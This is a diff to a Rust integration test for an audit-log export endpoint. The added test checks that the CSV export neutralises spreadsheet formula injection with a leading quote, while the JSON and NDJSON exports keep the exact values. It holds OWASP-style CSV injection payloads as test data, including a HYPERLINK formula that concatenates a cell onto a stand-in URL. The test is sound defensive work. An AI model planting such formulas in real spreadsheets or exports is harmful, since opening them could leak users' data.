@@ -1,6 +1,7 @@
 //! `GET /admin/audit/export`: the file equals `/logs` for the same filters in
-//! every format, gzip decompresses, an empty CSV keeps its header, and every
-//! export leaves its audit row and its `log_export` admin action.
+//! every format, gzip decompresses, an empty CSV keeps its header, text that
+//! a spreadsheet would run as a formula is neutralised in CSV only, and
+//! every export leaves its audit row and its `log_export` admin action.
 
 use std::time::Duration;
 
@@ -45,12 +46,20 @@ async fn logs(app: &TestApp, query: &str) -> Vec<Value> {
     body["logs"].as_array().expect("logs").clone()
 }
 
-/// The CSV text the export must hold for a `/logs` JSON value.
+/// Whether a spreadsheet would take text for a formula: the six leading
+/// characters the CSV export neutralises (OWASP's list).
+fn starts_like_a_formula(text: &str) -> bool {
+    text.starts_with(['=', '+', '-', '@', '\t', '\r'])
+}
+
+/// The CSV text the export must hold for a `/logs` JSON value (text that
+/// begins like a spreadsheet formula gets a leading `'` in CSV only).
 fn same_value(csv: &str, json: &Value) -> bool {
     match json {
         Value::Null => csv.is_empty(),
         Value::Bool(b) => csv == b.to_string(),
         Value::Number(n) => csv.parse::<f64>().ok() == n.as_f64(),
+        Value::String(s) if starts_like_a_formula(s) => csv.strip_prefix('\'') == Some(s.as_str()),
         Value::String(s) => csv == s,
         _ => serde_json::from_str::<Value>(csv).ok().as_ref() == Some(json),
     }
@@ -179,6 +188,113 @@ async fn json_ndjson_and_gzip_exports_parse_back_to_the_same_rows() {
         .await
         .expect("gzip decompresses");
     assert_eq!(unzipped, plain.to_vec());
+}
+
+/// User agents a spreadsheet would take for formulas (OWASP's CSV
+/// injection list).
+const FORMULA_AGENTS: [&str; 4] = ["=HYPERLINK(\"http://x\"&A2)", "+1", "-1", "@SUM(A1)"];
+
+#[tokio::test]
+async fn csv_export_neutralises_formulas_and_json_stays_exact() {
+    let app = spawn_app().await;
+    // Sent without a token: anyone can put text in the trail this way.
+    for agent in FORMULA_AGENTS {
+        let response = send(
+            app.client
+                .get(app.url("/csv-injection-probe"))
+                .header(reqwest::header::USER_AGENT, agent),
+        )
+        .await;
+        // An unknown path: refused (404), and audited like any request.
+        assert!(response.status().is_client_error(), "{agent}");
+    }
+    // A tab or carriage return cannot begin a header value on the wire
+    // (HTTP parsers strip leading whitespace and refuse a CR), so those two
+    // rows go into the table directly, with a negative exit code and
+    // response time that must stay numbers.
+    let client = app.db.client().await;
+    client
+        .execute(
+            "INSERT INTO audit_actions (id, \"timestamp\", request_id, endpoint, route, http_method,
+                 action_type, action_category, status_code, success, response_time_ms,
+                 user_agent, exit_code, cpu_time_ms, metadata)
+             SELECT gen_random_uuid(), now() - (i * interval '1 millisecond'), gen_random_uuid(),
+                    '/csv-injection-probe', 'unmatched', 'GET', 'seeded', 'general', 500, false,
+                    -1.5, agent, -1, -0.25, jsonb_build_object('note', '=1+1', 'n', -2)
+             FROM unnest(ARRAY[E'\\t=1+1', E'\\r=1+1']) WITH ORDINALITY AS t(agent, i)",
+            &[],
+        )
+        .await
+        .expect("seed");
+    let mut expected: Vec<String> = FORMULA_AGENTS.iter().map(|a| a.to_string()).collect();
+    expected.extend(["\t=1+1".to_owned(), "\r=1+1".to_owned()]);
+    expected.sort();
+    let filter = "endpoint=csv-injection-probe";
+
+    let body = export(&app, filter, ADMIN)
+        .await
+        .bytes()
+        .await
+        .expect("csv");
+    let mut reader = csv::Reader::from_reader(&body[..]);
+    let header = reader.headers().expect("header").clone();
+    let column = |name: &str| header.iter().position(|h| h == name).expect(name);
+    let records: Vec<csv::StringRecord> = reader.records().map(|r| r.expect("record")).collect();
+    assert_eq!(records.len(), expected.len(), "one row per probe");
+    let mut agents: Vec<String> = Vec::new();
+    for record in &records {
+        let agent = &record[column("user_agent")];
+        assert!(agent.starts_with('\''), "{agent:?} is neutralised");
+        agents.push(agent[1..].to_owned());
+        // No cell of the row begins like a formula but numbers (a sign).
+        for (name, text) in header.iter().zip(record.iter()) {
+            assert!(
+                !starts_like_a_formula(text) || text.parse::<f64>().is_ok(),
+                "{name}: {text:?}"
+            );
+        }
+        if record[column("action_type")] == *"seeded" {
+            assert_eq!(
+                &record[column("exit_code")],
+                "-1",
+                "numbers keep their sign"
+            );
+            assert_eq!(&record[column("response_time_ms")], "-1.5");
+            assert_eq!(&record[column("cpu_time_ms")], "-0.25");
+            let metadata: Value =
+                serde_json::from_str(&record[column("metadata")]).expect("JSON cell");
+            assert_eq!(metadata, json!({"note": "=1+1", "n": -2}));
+        }
+    }
+    agents.sort();
+    assert_eq!(agents, expected, "the prefix is the only change");
+
+    // JSON and NDJSON hold the exact values.
+    let array: Vec<Value> = export(&app, &format!("{filter}&format=json"), ADMIN)
+        .await
+        .json()
+        .await
+        .expect("json");
+    let text = export(&app, &format!("{filter}&format=ndjson"), ADMIN)
+        .await
+        .text()
+        .await
+        .expect("ndjson");
+    let lines: Vec<Value> = text
+        .lines()
+        .map(|l| serde_json::from_str(l).expect("one object per line"))
+        .collect();
+    assert_eq!(lines, array);
+    let mut exact: Vec<String> = array
+        .iter()
+        .map(|r| r["user_agent"].as_str().expect("agent").to_owned())
+        .collect();
+    exact.sort();
+    assert_eq!(exact, expected, "JSON is never prefixed");
+    for row in array.iter().filter(|r| r["action_type"] == "seeded") {
+        assert_eq!(row["exit_code"], -1);
+        assert_eq!(row["response_time_ms"], -1.5);
+    }
 }
 
 #[tokio::test]
